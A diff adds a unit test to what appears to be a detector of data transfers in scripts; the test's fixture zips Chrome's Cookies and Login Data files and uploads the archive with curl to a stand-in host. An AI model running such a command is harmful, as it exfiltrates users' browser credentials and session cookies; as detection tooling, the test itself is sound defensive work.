@@ -74,3 +74,13 @@ def test_powershell_upload_of_a_credential_file() -> None:
     (t,) = powershell_transfers(text, TransferState())
     assert t.destinations[0].value == "diag.example-vendor.com"
     assert t.sources[0].kind is Kind.CREDENTIAL
+
+
+def test_uploading_a_staged_archive_carries_what_was_archived() -> None:
+    """A form upload of an archive sends the browser credential stores packed into it."""
+    script = parse_script(
+        "zip -qr /tmp/p.zip ~/.config/google-chrome/Default/{Cookies,'Login Data'} && "
+        "curl -s -F file=@/tmp/p.zip https://files.example.net/up"
+    )
+    (sent,) = transfers(script, TransferState())
+    assert [s.kind for s in sent.sources] == [Kind.CREDENTIAL]
